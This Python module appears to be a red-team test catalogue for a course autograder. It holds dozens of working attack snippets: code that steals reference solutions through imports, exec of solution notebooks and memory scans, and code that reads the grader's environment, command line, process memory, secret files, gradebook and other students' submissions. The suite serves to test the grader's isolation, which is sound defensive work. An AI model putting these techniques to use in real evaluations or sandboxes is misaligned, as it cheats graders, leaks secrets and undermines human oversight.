"""Reading what is not the learner's: suites, references, solutions, other submissions, secrets, memory."""

from .catalogue import Attack, before_blank, lies, spills

FORGE_FROM = """
def take(space):
    for name in ("affine", "predict_shape", "affine_failing_input", "affine_mended"):
        if callable(space.get(name)):
            globals()[name + "_stolen"] = space[name]
stolen = lambda name: globals().get(name + "_stolen") or (lambda *a: None)
"""

STOLEN = """
# %%
def affine(x, w, b):
    return stolen("affine")(x, w, b)

# %%
def predict_shape(x_shape, w_shape):
    return stolen("predict_shape")(x_shape, w_shape)

# %%
def affine_failing_input():
    return stolen("affine_failing_input")()

# %%
def affine_mended(x, w, b):
    return stolen("affine_mended")(x, w, b)
"""


def steals(id: str, tries: str, code: str, **kind: object) -> Attack:
    """`code` finds right implementations and hands them to `take`."""
    source = f"import numpy as np\n\n# %%\n{FORGE_FROM}\n# %%\n{code}{STOLEN}"
    return Attack(id, tries, source, **kind)  # type: ignore[arg-type]


READ_ALL = """
import os
def read_all(*paths):
    text = b""
    for path in paths:
        try:
            if os.path.isdir(path):
                for folder, _, names in os.walk(path):
                    for name in names:
                        text += read_all(os.path.join(folder, name)).encode("latin-1")
            else:
                with open(path, "rb") as file: text += file.read(1 << 20)
        except OSError:
            pass
    return text.decode("latin-1")
"""

ATTACKS: tuple[Attack, ...] = (
    steals(
        "import-the-suite",
        "Imports the references from dlteach.exercises and dlteach.functions.",
        """
import importlib
for name in ("dlteach.exercises", "dlteach.exercises.start_here", "dlteach.exercises.start_here.layer",
             "dlteach.exercises.start_here.given_mistake", "dlteach.functions", "dlteach.functions.layers",
             "dlteach.autograder.registry"):
    try:
        module = importlib.import_module(name)
        take(vars(module))
        for thing in list(vars(module).values()):
            if hasattr(thing, "reference"): take({thing.name: thing.reference})
        for e in getattr(module, "exercises", dict)().values(): take({e.name: e.reference})
    except Exception:
        pass
""",
    ),
    steals(
        "import-after-cleaning",
        "Deletes every dlteach from sys.modules, puts the repository on the path and imports again.",
        """
import sys, glob
for name in [n for n in sys.modules if n.startswith("dlteach")]: del sys.modules[name]
sys.path[:0] = ["$repository", *glob.glob("$repository/.venv/lib/*/site-packages")]
sys.path_importer_cache.clear()
from dlteach.autograder.registry import exercises
for e in exercises().values(): take({e.name: e.reference})
""",
    ),
    steals(
        "load-by-location",
        "Loads the suite's files by their path, past every import hook.",
        """
import importlib.util, os
for folder, _, names in os.walk("$repository/dlteach"):
    for name in names:
        if name.endswith(".py"):
            try:
                spec = importlib.util.spec_from_file_location("stolen", os.path.join(folder, name))
                module = importlib.util.module_from_spec(spec)
                spec.loader.exec_module(module)
                take(vars(module))
            except Exception: pass
""",
    ),
    steals(
        "solutions",
        "Runs the code of the solution notebook.",
        """
import json, glob
for path in glob.glob("$repository/solutions/00*.ipynb") + ["$repository/solutions/00_start_here.ipynb"]:
    space = {"np": np}
    for cell in json.load(open(path))["cells"]:
        if cell["cell_type"] == "code":
            try: exec("".join(cell["source"]), space)
            except Exception: pass
    take(space)
""",
    ),
    steals(
        "authoring",
        "Runs what the authors have written, solutions inside.",
        "space = {'np': np}\nexec(open('$repository/authoring/exercises/00_start_here.py').read(), space)\ntake(space)",
    ),
    steals(
        "installed-copy",
        "Looks for an installed copy of the course beside NumPy.",
        """
import os, json
root = os.path.dirname(os.path.dirname(np.__file__))
for folder in (root, os.path.dirname(root), "/usr/lib/python3/dist-packages"):
    path = os.path.join(folder, "dlteach", "_course", "solutions", "00_start_here.ipynb")
    if os.path.exists(path):
        space = {"np": np}
        for cell in json.load(open(path))["cells"]:
            if cell["cell_type"] == "code": exec("".join(cell["source"]), space)
        take(space)
""",
    ),
    steals(
        "bytecode",
        "Runs the compiled files of the suite.",
        """
import glob, marshal
for path in glob.glob("$repository/dlteach/exercises/start_here/__pycache__/layer*.pyc"):
    space = {"np": np, "__name__": "stolen"}
    exec(marshal.loads(open(path, "rb").read()[16:]), space)
    take(space)
""",
    ),
    steals(
        "pkgutil-and-zipimport",
        "Asks pkgutil, zipimport, linecache and importlib.resources for the text of the suite.",
        """
import pkgutil, linecache
texts = []
for ask in (lambda: pkgutil.get_data("dlteach.exercises.start_here", "layer.py").decode(),
            lambda: "".join(linecache.getlines("$repository/dlteach/exercises/start_here/layer.py")),
            lambda: __import__("importlib.resources", fromlist=["x"]).files("dlteach.exercises").joinpath("start_here/layer.py").read_text()):
    try: texts.append(ask())
    except Exception: pass
for text in texts:
    space = {"np": np}
    try: exec(text, space)
    except Exception: pass
    take(space)
    take({e.name: e.reference for e in space.values() if hasattr(e, "reference")})
""",
    ),
    steals(
        "functions-in-memory",
        "Takes every function in memory that has the name of an exercise.",
        """
import gc, types
for thing in gc.get_objects():
    if isinstance(thing, types.FunctionType): take({thing.__name__: thing})
    if hasattr(type(thing), "reference") or type(thing).__name__ == "Exercise":
        try: take({thing.name: thing.reference})
        except Exception: pass
""",
    ),
    steals(
        "entry-points",
        "Loads the pack through the entry points of whatever is installed.",
        """
from importlib.metadata import entry_points
for entry in entry_points(group="dlteach.exercises"):
    for e in entry.load().exercises: take({e.name: e.reference})
""",
    ),
    steals(
        "rooms-of-other-lessons",
        "A set for which rooms of the course are open is claimed, to use them for this one.",
        """
import sys
for name, module in list(sys.modules.items()):
    if name.startswith("dlteach"):
        for room in dir(module):
            try: take({room: getattr(module, room)})
            except Exception: pass
from dlteach.course import mine
for name in ("affine", "predict_shape", "affine_failing_input", "affine_mended"):
    take({name: mine(name)})
""",
    ),
    lies(
        "stdin-job",
        "Reads what the grader sends: the job may hold what is expected.",
        """
import os
text = b""
for fd in range(0, 64):
    try:
        os.set_blocking(fd, False)
        text += os.read(fd, 1 << 20)
    except OSError: pass
lie = lambda *a: np.frombuffer(text[-(len(text) // 8) * 8:] or bytes(8)).reshape(1, -1)
""",
    ),
    spills(
        "own-environment",
        "Reads its own environment, as Python knows it and as the kernel does.",
        READ_ALL
        + "spill(repr(os.environ) + repr(getattr(os, 'environb', '')) + read_all('/proc/self/environ'))",
    ),
    spills(
        "initial-stack",
        "Reads the environment with which the process began, from its stack.",
        """
import ctypes
libc = ctypes.CDLL(None)
environ = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, "environ")
text = b""
for k in range(10000):
    if not environ or not environ[k]: break
    text += environ[k] + b" "
spill(text)
""",
    ),
    spills(
        "own-memory",
        "Searches all of its own memory, through /proc/self/mem.",
        """
text = b""
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
    for line in maps:
        start, end = (int(x, 16) for x in line.split()[0].split("-"))
        if " rw" in line and end - start < 1 << 28:
            try:
                memory.seek(start)
                data = memory.read(end - start)
                at = data.find(b"CANARY")
                while at >= 0:
                    text += data[at:at + 22] + b" "
                    at = data.find(b"CANARY", at + 1)
            except (OSError, OverflowError, ValueError): pass
spill(text)
""",
    ),
    spills(
        "own-heap-by-ctypes",
        "Searches its own stack upwards with ctypes: what the process inherited at its start.",
        """
import ctypes
libc = ctypes.CDLL(None)
end = ctypes.c_void_p.in_dll(libc, "__libc_stack_end").value
spill(ctypes.string_at(end, 3000))
""",
    ),
    spills(
        "environment-of-the-parent",
        "Reads /proc/PID/environ of its parent, of the grader and of all others.",
        READ_ALL
        + "spill(read_all(f'/proc/{os.getppid()}/environ', '/proc/$grader/environ', '/proc/1/environ', '/proc/2/environ'))",
    ),
    spills(
        "command-lines",
        "Reads the arguments of the grader.",
        READ_ALL + "spill(read_all(f'/proc/{os.getppid()}/cmdline', '/proc/$grader/cmdline'))",
    ),
    spills(
        "memory-of-the-grader",
        "Reads /proc/PID/mem of the grader and of the parent.",
        """
import os
text = b""
for pid in (os.getppid(), $grader):
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
            for line in maps:
                start, end = (int(x, 16) for x in line.split()[0].split("-"))
                if " rw" in line and end - start < 1 << 26:
                    try:
                        memory.seek(start)
                        data = memory.read(end - start)
                        at = data.find(b"CANARY")
                        if at >= 0: text += data[at:at + 22] + b" "
                    except (OSError, ValueError, OverflowError): pass
    except OSError: pass
spill(text)
""",
    ),
    spills(
        "files-of-the-grader",
        "Follows /proc/PID/fd, cwd and root of the grader.",
        READ_ALL
        + "spill(read_all(*[f'/proc/{p}/{w}' for p in (os.getppid(), $grader) for w in ('fd', 'cwd/secret.txt', 'root$outside/secret.txt')]))",
    ),
    spills(
        "canary-file",
        "Reads the file beside the results, by its path.",
        READ_ALL + "spill(read_all('$outside'))",
    ),
    spills(
        "secret-of-the-results",
        "Reads the secret that draws the seeds.",
        READ_ALL + "spill(read_all('$outside/grades/secret'))",
    ),
    spills(
        "other-submissions",
        "Reads what others have handed in, and their results.",
        READ_ALL
        + "spill(read_all('$outside/grades/submissions', '$outside/grades/results', '$outside/grades/events.jsonl'))",
    ),
    spills(
        "gradebook",
        "Reads the gradebook with sqlite3.",
        "import sqlite3\nspill(repr(list(sqlite3.connect('file:$outside/grades/gradebook.sqlite?mode=ro', uri=True).execute('select * from marks'))))",
    ),
    spills(
        "relative-paths",
        "Climbs out with .. and through symbolic links of the system.",
        READ_ALL
        + "spill(read_all('../' * 30 + '$outside/secret.txt', '/proc/self/root$outside/secret.txt', '/proc/self/cwd/secret.txt', '/proc/thread-self/root$outside/secret.txt', '/dev/fd/../../..$outside/secret.txt'))",
    ),
    spills(
        "home",
        "Reads the home folder of whoever grades.",
        READ_ALL + "spill(read_all('$outside/home', os.path.expanduser('~/secret.txt')))",
    ),
    spills(
        "chdir",
        "Goes to the folder and reads from there.",
        READ_ALL + "os.chdir('$outside')\nspill(read_all('secret.txt') + repr(os.listdir('.')))",
    ),
    spills(
        "directory-handles",
        "Opens folders with O_PATH and files relative to them.",
        READ_ALL
        + """
place = os.open("$outside", os.O_PATH)
fd = os.open("secret.txt", os.O_RDONLY, dir_fd=place)
spill(os.read(fd, 1000))
""",
    ),
    spills(
        "mmap-a-file",
        "Maps the file in place of reading it.",
        "import mmap\nwith open('$outside/secret.txt', 'rb') as f:\n    spill(mmap.mmap(f.fileno(), 0, prot=mmap.PROT_READ)[:])",
    ),
    spills(
        "numpy-reads",
        "Lets NumPy read: fromfile, memmap, load, loadtxt, DataSource.",
        """
text = ""
for read in (lambda: np.fromfile("$outside/secret.txt", dtype="u1").tobytes().decode(),
             lambda: np.memmap("$outside/secret.txt", mode="r", dtype="u1").tobytes().decode(),
             lambda: str(np.loadtxt("$outside/secret.txt", dtype=str)),
             lambda: str(np.genfromtxt("$outside/secret.txt", dtype=str)),
             lambda: np.lib.npyio.DataSource().open("$outside/secret.txt").read()):
    try: text += read()
    except Exception as error: text += str(error)
spill(text)
""",
    ),
    spills(
        "error-messages",
        "Lets Python put lines of the file into an error: a SyntaxError of importing it, a traceback.",
        """
import sys, traceback, importlib.machinery, warnings
text = ""
try: importlib.machinery.SourceFileLoader("secret", "$outside/secret.txt").load_module()
except BaseException: text += traceback.format_exc()
try: warnings.warn_explicit("x", UserWarning, "$outside/secret.txt", 1)
except BaseException: pass
spill(text)
""",
    ),
    spills(
        "inherited-descriptors",
        "Reads from every descriptor that is open, from its beginning.",
        """
import os
text = b""
for fd in range(1024):
    try:
        text += os.pread(fd, 1 << 20, 0)
    except OSError: pass
    try: text += os.readlink(f"/proc/self/fd/{fd}").encode()
    except OSError: pass
spill(text)
""",
    ),
    spills(
        "other-temporary-files",
        "Reads what lies in /tmp and /dev/shm with the canary's name.",
        READ_ALL
        + "import glob\nspill(read_all(*glob.glob('/tmp/pytest-of-*/pytest-*/*/outside/secret.txt'), *glob.glob('/dev/shm/dlteach-attack*')))",
    ),
    spills(
        "system-v-queue",
        "Takes a message out of a System V queue of the host, found by its index.",
        """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
text = b""
for index in range(64):
    about = ctypes.create_string_buffer(256)
    queue = libc.msgctl(index, 11, about)  # MSG_STAT
    if queue >= 0:
        message = ctypes.create_string_buffer(300)
        if libc.msgrcv(queue, message, 200, 0, 0o4000 | 0o10000) > 0: text += message.raw
spill(text)
""",
        needs_own_host=True,
    ),
    spills(
        "system-v-memory",
        "Attaches shared memory of the host, found by its index.",
        """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
text = b""
for index in range(64):
    about = ctypes.create_string_buffer(256)
    segment = libc.shmctl(index, 13, about)  # SHM_STAT
    if segment >= 0:
        at = libc.shmat(segment, None, 0o10000)
        if at and at != ctypes.c_void_p(-1).value: text += ctypes.string_at(at, 64)
spill(text)
""",
    ),
    before_blank(
        "process-vm-readv",
        "Copies the grader's memory with process_vm_readv and stops if it can.",
        """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
class iovec(ctypes.Structure): _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
buffer = ctypes.create_string_buffer(4096)
here, there = iovec(ctypes.addressof(buffer), 4096), iovec(0x400000, 4096)
if libc.process_vm_readv($grader, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
    open("$outside/read-the-grader", "w")
""",
    ),
)
